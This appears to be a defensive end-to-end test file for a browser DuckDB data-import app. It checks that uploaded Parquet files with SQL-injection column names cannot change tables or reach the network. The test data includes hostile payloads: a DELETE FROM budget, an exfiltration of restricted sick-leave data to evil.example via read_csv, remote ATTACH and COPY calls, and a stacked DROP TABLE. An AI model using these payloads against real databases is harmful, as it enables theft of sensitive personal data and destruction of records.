import { DuckDBInstance } from '@duckdb/node-api';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { confirm, upload } from './helpers/import';
import { openSite, visit, waitForData, type Site } from './helpers/site';

/**
 * Crafted Parquet files against the production build in Chromium: column names that would be SQL
 * if pasted (the attacks that once emptied the budget, multiplied it by 10 and sent sick leave to
 * a foreign host). SYNTHETIC test data only. visit() fails on any foreign request.
 */
let site: Site;
beforeAll(async () => (site = await openSite()));
afterAll(async () => site?.close());

const HOSTILE = [
	'x"; DELETE FROM budget; --',
	'amount_tkr" * 10 AS "amount_tkr',
	"x\" FROM restricted.sick_leave, read_csv('http://evil.example/leak.csv?d=' || (SELECT string_agg(value::VARCHAR, ',') FROM restricted.sick_leave)) --",
	"'); ATTACH 'http://evil.example/x.db' AS x; --"
];

/** A Parquet file (native DuckDB, same version as the browser's) with the given SELECT list. */
async function parquet(select: string): Promise<Buffer> {
	const file = join(mkdtempSync(join(tmpdir(), 'tertial-e2e-')), 'f.parquet');
	const conn = await (await DuckDBInstance.create(':memory:')).connect();
	await conn.run(`COPY (${select}) TO '${file}' (FORMAT parquet)`);
	return readFileSync(file);
}
const quoted = (name: string) => `"${name.replaceAll('"', '""')}"`;
const hostileColumns = HOSTILE.map((n, i) => `'${i}' AS ${quoted(n)}`).join(', ');

const contents = (page: Page) =>
	page.evaluate(() =>
		(window as unknown as { __tertialBench: { contents(): Promise<Record<string, string>> } }).__tertialBench.contents()
	);

describe('hostile files cannot change a table or reach the network', () => {
	it('a file of nothing but SQL-like column names is rejected, and every table is as before', async () => {
		const { page, problems } = await visit(site, '/data/?bench');
		await waitForData(page);
		const before = await contents(page);
		expect(Object.keys(before)).toEqual(expect.arrayContaining(['budget', 'sick_leave', 'staffing', 'measures']));
		const file = { name: 'syntetisk-fientlig.parquet', buffer: await parquet(`SELECT ${hostileColumns}`) };
		const card = await upload(page, file, { formatKey: 'long:budget' });
		expect(await card.textContent()).toContain('syntetisk-fientlig.parquet');
		// Never loadable: refused, or stuck in the mapping step for want of every required column.
		expect(['refused', 'mapping']).toContain(await card.getAttribute('data-phase'));
		expect(await contents(page)).toEqual(before);
		expect(problems).toEqual([]);
	});

	it('valid columns beside hostile ones: only the valid ones are read; nothing else changes', async () => {
		const { page, problems } = await visit(site, '/data/?bench');
		await waitForData(page);
		const before = await contents(page);
		const file = await parquet(
			`SELECT '0461' AS kommun, DATE '2024-01-01' AS period_start, DATE '2024-01-31' AS period_end, 'month' AS period_kind,
				'jan 2024' AS period_label, 'sick_leave_total_pct' AS measure, 'actual' AS value_kind, 'T' AS sex,
				'Syntetisk enhet' AS unit_area, 6.1::DOUBLE AS value, '%' AS unit, 40 AS n, ${hostileColumns}`
		);
		const card = await upload(
			page,
			{ name: 'syntetisk-blandad.parquet', buffer: file },
			{ formatKey: 'long:sick_leave' }
		);
		expect(await card.getAttribute('data-phase')).toBe('report');
		await confirm(card);
		expect(await card.getAttribute('data-phase')).toBe('done');
		const after = await contents(page);
		for (const [table, hash] of Object.entries(before))
			// The row goes to sick_leave and the file's citation to sources; nothing else moves.
			if (table === 'sick_leave' || table === 'sources') expect(after[table]).not.toBe(hash);
			else expect(after[table], table).toBe(hash);
		expect(after.sick_leave).toMatch(new RegExp(`^${Number(before.sick_leave!.split(':')[0]) + 1}:`));
		expect(problems).toEqual([]);
	});

	it('the engine itself refuses URLs, files, a second statement and any change to its settings', async () => {
		const { page, problems } = await visit(site, '/?bench');
		await waitForData(page);
		const refused = await page.evaluate(async () => {
			const hook = (window as unknown as { __tertialBench: { time(sql: string, runs: number): Promise<number[]> } })
				.__tertialBench;
			const out: Record<string, string> = {};
			for (const [name, text] of Object.entries({
				readCsv: "SELECT * FROM read_csv('http://evil.example/leak.csv')",
				readParquet: "SELECT * FROM read_parquet('http://evil.example/x.parquet')",
				copy: "COPY (SELECT 1) TO 'http://evil.example/x.csv'",
				attach: "ATTACH 'http://evil.example/x.db' AS x",
				enable: 'SET enable_external_access = true',
				unlock: 'SET lock_configuration = false',
				twoStatements: 'SELECT 1; DROP TABLE budget'
			}))
				out[name] = await hook.time(text, 1).then(
					() => 'ran',
					(e: unknown) => String(e).slice(0, 300)
				);
			return out;
		});
		for (const [name, outcome] of Object.entries(refused)) expect(outcome, name).not.toBe('ran');
		expect(refused.readCsv).toMatch(/Permission|disabled/i);
		expect(refused.enable).toMatch(/locked/i);
		expect(refused.twoStatements).toMatch(/multiple statements/i);
		expect(problems).toEqual([]);
	});
});
